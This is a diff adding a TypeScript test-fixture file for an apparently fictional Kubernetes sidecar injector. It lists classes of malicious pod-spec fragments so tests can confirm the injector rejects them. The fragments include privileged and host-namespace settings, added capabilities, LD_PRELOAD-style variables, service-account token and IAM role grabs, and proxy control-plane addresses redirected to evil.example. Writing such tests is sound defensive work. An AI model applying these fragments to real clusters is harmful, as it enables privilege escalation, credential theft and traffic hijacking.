@@ -1,0 +1,249 @@
+// What an editor may try on the pods of others, by the class that holds it: the tables that the tests of publishing and of injection
+// share.
+import type { SourceTree } from "@outrigger/injector";
+
+/** A pod that has something of each kind that can be taken or replaced. */
+export const AUTHOR = `
+kind: Pod
+metadata:
+  name: web-5d8f-abcde
+  labels: {app: web, version: v1, pod-template-hash: 5d8f}
+  annotations: {team: shop}
+spec:
+  automountServiceAccountToken: false
+  serviceAccountName: web
+  nodeSelector: {pool: a}
+  runtimeClassName: gvisor
+  volumes:
+  - {name: node, hostPath: {path: /run/own}}
+  - {name: data, persistentVolumeClaim: {claimName: data}}
+  - {name: keys, secret: {secretName: keys}}
+  containers:
+  - name: web
+    image: registry.example/web:1
+    readinessProbe: {httpGet: {path: /r, port: 80}}
+    volumeMounts: [{name: data, mountPath: /data}]
+`;
+
+const SIDECAR = `spec:
+  containers:
+  - name: istio-proxy
+    image: registry.example/proxyv2:1
+    env:
+    - {name: CA_ADDR, value: 'istiod.istio-system.svc:15012'}
+    - {name: PROXY_CONFIG, value: '{"discoveryAddress": "istiod.istio-system.svc:15012"}'}
+    volumeMounts: [{name: istiod-ca-cert, mountPath: /var/run/secrets/istio}]
+  volumes:
+  - {name: istiod-ca-cert, configMap: {name: istio-ca-root-cert}}
+`;
+
+/** A shipped tree that is small, so that everything can be tried. */
+export const SHIPPED: SourceTree = {
+  config: "defaultTemplates: [sidecar]\n",
+  "templates/sidecar": SIDECAR,
+  "samples/web": AUTHOR,
+};
+
+const CONFIG = { config: "defaultTemplates: [sidecar, evil]\n" };
+export const plainly = (text: string): SourceTree => ({ ...CONFIG, "templates/evil": text });
+/** Behind a branch that no sample takes. */
+export const hidden = (text: string): SourceTree =>
+  plainly(`{{#if (eq (lookup metadata.annotations "evil") "yes")}}\n${text}{{/if}}\n`);
+
+export const spec = (text: string) => `spec:\n  ${text}\n`;
+const web = (text: string) => spec(`containers: [{name: web, ${text}}]`);
+export const own = (text: string, more = "") =>
+  spec(`containers: [{name: own, image: registry.example/own:1, ${text}}]${more}`);
+const mounted = (path: string) =>
+  `${web(`volumeMounts: [{name: own, mountPath: ${path}}]`)}  volumes: [{name: own, emptyDir: {}}]\n`;
+const volume = (text: string) => spec(`volumes: [{name: own, ${text}}]`);
+export const token = (audience: string) =>
+  own(
+    "volumeMounts: [{name: t, mountPath: /var/run/secrets/kubernetes.io/serviceaccount}]",
+    `\n  volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: token${audience}}}]}}]`,
+  );
+export const label = (key: string, value = "x") => `metadata: {labels: {${key}: '${value}'}}\n`;
+export const annotation = (key: string, value = "x") => `metadata: {annotations: {${key}: ${JSON.stringify(value)}}}\n`;
+export const proxy = (text: string) =>
+  spec(`containers: [{name: istio-proxy, image: registry.example/proxyv2:1, ${text}}]`);
+const variable = (name: string, value: string) => proxy(`env: [{name: ${name}, value: '${value}'}]`);
+const config = (text: string) => variable("PROXY_CONFIG", text);
+const secure = (text: string) => own(`securityContext: {${text}}`);
+const words = (text: string) => text.split(/\s+/);
+
+/** Variables by which a program loads another one, or trusts another one. */
+const VARIABLES =
+  words(`LD_PRELOAD LD_LIBRARY_PATH NODE_OPTIONS JAVA_TOOL_OPTIONS PYTHONSTARTUP BASH_ENV PERL5OPT RUBYOPT PATH
+  DOTNET_STARTUP_HOOKS HTTP_PROXY HTTPS_PROXY KUBERNETES_SERVICE_HOST AWS_ROLE_ARN AWS_WEB_IDENTITY_TOKEN_FILE
+  AWS_ENDPOINT_URL AWS_CONTAINER_CREDENTIALS_FULL_URI SSL_CERT_FILE`);
+
+/** Paths over which nothing of an injection belongs. */
+const PATHS = words(`/usr/local/bin /var/run/secrets/kubernetes.io/serviceaccount /etc /etc/passwd /lib /proc / /home
+  /var/run/secrets/eks.amazonaws.com/serviceaccount /etc/istio/../ssl /var/logs`);
+
+/** Types of volumes that are of the node, of the network, or of another driver. */
+const VOLUMES = [
+  "hostPath: {path: /run/own}",
+  "nfs: {server: a, path: /}",
+  "azureFile: {shareName: a, secretName: web}",
+  "flexVolume: {driver: a/b, secretRef: {name: web}}",
+  "cephfs: {monitors: [a], secretRef: {name: web}}",
+  "ephemeral: {volumeClaimTemplate: {spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}}",
+  "awsElasticBlockStore: {volumeID: a}",
+  "azureDisk: {diskName: a, diskURI: 'https://a'}",
+  "cinder: {volumeID: a}",
+  "fc: {targetWWNs: [a], lun: 1}",
+  "flocker: {datasetName: a}",
+  "gcePersistentDisk: {pdName: a}",
+  "gitRepo: {repository: 'https://evil.example/a'}",
+  "glusterfs: {endpoints: a, path: b}",
+  "iscsi: {targetPortal: a, iqn: 'iqn.2001-04.com.example:a', lun: 1}",
+  "portworxVolume: {volumeID: a}",
+  "quobyte: {registry: 'a:1', volume: b}",
+  "rbd: {monitors: [a], image: b}",
+  "scaleIO: {gateway: a, system: b, volumeName: c, secretRef: {name: web}}",
+  "storageos: {volumeName: a, secretRef: {name: web}}",
+  "vsphereVolume: {volumePath: a}",
+].map(volume);
+
+/** The class that holds it → what is tried. */
+const ATTACKS: Readonly<Record<string, readonly string[]>> = {
+  "author-changed": [
+    ...words(
+      "app version pod-template-hash pod-template-generation controller-revision-hash controller-uid job-name",
+    ).map((key) => label(key)),
+    label("batch.kubernetes.io/job-name"),
+    label("statefulset.kubernetes.io/pod-name"),
+    label("security.istio.io/tlsMode", "disabled"),
+    "metadata: {labels: {app: null}}\n",
+    annotation("team"),
+    "metadata: {annotations: {team: null}}\n",
+    spec("runtimeClassName: runc"),
+    spec("runtimeClassName: null"),
+    spec("nodeSelector: {pool: b}"),
+    spec("nodeSelector: null"),
+    ...VARIABLES.map((name) => web(`env: [{name: ${name}, value: /x}]`)),
+    ...PATHS.map(mounted),
+    web("envFrom: [{configMapRef: {name: evil}}]"),
+    web("command: [sh]"),
+    web("args: [evil]"),
+    web("workingDir: /tmp"),
+    web("tty: true"),
+    web("stdin: true"),
+    web("imagePullPolicy: Always"),
+    web("resources: {limits: {memory: 8Mi}}"),
+    web("resources: {limits: {ephemeral-storage: 8Mi}}"),
+    web("livenessProbe: {exec: {command: ['false']}}"),
+    web("lifecycle: {preStop: {httpGet: {host: evil.example, path: /, port: 80}}}"),
+    web("lifecycle: {postStart: {exec: {command: [evil]}}}"),
+    web("ports: [{containerPort: 81}]"),
+    web("ports: [{containerPort: 80, hostPort: 80}]"),
+    web("securityContext: {runAsNonRoot: true}"),
+    web("securityContext: {privileged: true}"),
+    web("terminationMessagePath: /data/x"),
+    web("volumeMounts: [{name: keys, mountPath: /keys}]"),
+    web("volumeMounts: [{name: data, mountPath: /data, readOnly: true}]"),
+    `${web("volumeDevices: [{name: own, devicePath: /dev/x}]")}  volumes: [{name: own, persistentVolumeClaim: {claimName: own}}]\n`,
+    spec("volumes: [{name: data, persistentVolumeClaim: null, emptyDir: {}}]"),
+    spec("volumes: [{name: data, persistentVolumeClaim: {readOnly: true}}]"),
+    spec("volumes: [{name: node, hostPath: {path: /}}]"),
+    spec("volumes: [{name: keys, secret: {secretName: other}}]"),
+    spec("volumes: [{name: keys, $patch: delete}]"),
+  ],
+  "pod-may-not-run": [
+    "metadata: {finalizers: [evil.example/never]}\n",
+    annotation("scheduler.alpha.kubernetes.io/critical-pod", ""),
+    spec("schedulingGates: [{name: evil.example/never}]"),
+    spec("activeDeadlineSeconds: 1"),
+    spec("nodeName: node-1"),
+    spec("restartPolicy: Never"),
+    spec("dnsConfig: {nameservers: [192.0.2.1]}"),
+    spec("dnsConfig: {searches: [evil.example]}"),
+    spec("dnsPolicy: Default"),
+    spec("tolerations: [{operator: Exists}]"),
+    spec("affinity: {nodeAffinity: {}}\n  schedulerName: evil"),
+    spec("preemptionPolicy: Never"),
+    spec("priorityClassName: system-node-critical\n  priority: 2000001000"),
+    spec("hostname: evil"),
+    spec("subdomain: evil"),
+    spec("setHostnameAsFQDN: true"),
+    spec("enableServiceLinks: false"),
+    spec("os: {name: windows}"),
+    spec("readinessGates: [{conditionType: evil.example/never}]"),
+    spec("topologySpreadConstraints: [{maxSkew: 1, topologyKey: zone, whenUnsatisfiable: DoNotSchedule}]"),
+    spec("securityContext: {fsGroup: 0}"),
+    spec("securityContext: {supplementalGroups: [0]}"),
+    spec("securityContext: {runAsNonRoot: true}"),
+    spec("securityContext: {runAsUser: 0}"),
+    spec("resources: {limits: {cpu: '8'}}"),
+  ],
+  "privileges-widened": [
+    ...words("hostPID hostIPC hostNetwork shareProcessNamespace hostUsers").map((field) => spec(`${field}: true`)),
+    spec("serviceAccountName: admin"),
+    spec("automountServiceAccountToken: true"),
+    spec("securityContext: {sysctls: [{name: kernel.msgmax, value: '1'}]}"),
+    spec("securityContext: {seccompProfile: {type: Unconfined}}"),
+    spec("securityContext: {seLinuxOptions: {type: spc_t}}"),
+    spec("securityContext: {seLinuxOptions: {role: system_r}}"),
+    annotation("container.apparmor.security.beta.kubernetes.io/web", "unconfined"),
+    annotation("seccomp.security.alpha.kubernetes.io/pod", "unconfined"),
+    ...VOLUMES,
+    secure("privileged: true"),
+    secure("capabilities: {add: [SYS_ADMIN]}"),
+    secure("capabilities: {add: [ALL]}"),
+    `${secure("procMount: Unmasked")}  hostUsers: false\n`,
+    secure("seccompProfile: {type: Unconfined}"),
+    secure("appArmorProfile: {type: Unconfined}"),
+    secure("seLinuxOptions: {user: system_u}"),
+    secure("capabilities: {add: [NET_RAW]}"),
+    own("ports: [{containerPort: 80, hostPort: 80}]"),
+    own("readinessProbe: {httpGet: {host: 192.0.2.1, path: /, port: 80}}"),
+    own("lifecycle: {postStart: {tcpSocket: {host: 192.0.2.1, port: 80}}}"),
+    own("resources: {limits: {hugepages-2Mi: 64Mi, memory: 1Gi, cpu: '1'}}"),
+    own(
+      "volumeMounts: [{name: own, mountPath: /own, mountPropagation: HostToContainer}]",
+      "\n  volumes: [{name: own, emptyDir: {}}]",
+    ),
+  ],
+  "identity-used": [
+    token(""),
+    token(", audience: sts.amazonaws.com"),
+    token(", audience: sts.amazonaws.com.cn"),
+    token(", audience: https://kubernetes.default.svc"),
+    annotation("iam.amazonaws.com/role", "arn:aws:iam::123456789012:role/evil"),
+    annotation("eks.amazonaws.com/role-arn", "arn:aws:iam::123456789012:role/evil"),
+    annotation("eks.amazonaws.com/skip-containers", "own"),
+    label("azure.workload.identity/use", "true"),
+    spec("resourceClaims: [{name: own, resourceClaimName: other}]"),
+    volume("persistentVolumeClaim: {claimName: other}"),
+    volume("projected: {sources: [{podCertificate: {signerName: a/b, keyType: ED25519, keyPath: k}}]}"),
+    secure("windowsOptions: {gmsaCredentialSpecName: other}"),
+    own("volumeMounts: [{name: keys, mountPath: /keys}]"),
+    own("volumeMounts: [{name: data, mountPath: /data}]"),
+    own("volumeMounts: [{name: node, mountPath: /node}]"),
+  ],
+  "control-plane-address": [
+    annotation("proxy.istio.io/config", "discoveryAddress: evil.example:15012"),
+    ...[
+      '{"discovery_address": "evil.example:15012"}',
+      "discoveryAddress: evil.example:15012",
+      '{"binaryPath": "/tmp/evil"}',
+      '{"custom_config_file": "/tmp/evil"}',
+      '{"proxyBootstrapTemplatePath": "/tmp/evil"}',
+      '{"caCertificatesPem": ["evil"]}',
+      '{"proxyMetadata": {"XDS_ROOT_CA": "evil.example:15012"}}',
+      '{"proxy_metadata": {"CA_PROVIDER": "evil"}}',
+    ].map(config),
+    ...words("XDS_ROOT_CA CA_ROOT_CA CA_ADDR CA_PROVIDER PILOT_CERT_PROVIDER XDS_AUTH_PROVIDER").map((name) =>
+      variable(name, "/tmp/evil"),
+    ),
+    spec("hostAliases: [{ip: 192.0.2.1, hostnames: [istiod.istio-system.svc]}]"),
+    spec("volumes: [{name: istiod-ca-cert, configMap: {name: evil}}]"),
+  ],
+};
+
+/** Each of them with its class. */
+export const CASES = Object.entries(ATTACKS).flatMap(([name, texts]) => texts.map((text) => ({ name, text })));
+
+/** The proxy's own variables and volumes, which are compared where a sample comes to it */
+export const COMPARED = /istio-proxy|istiod-ca-cert/;
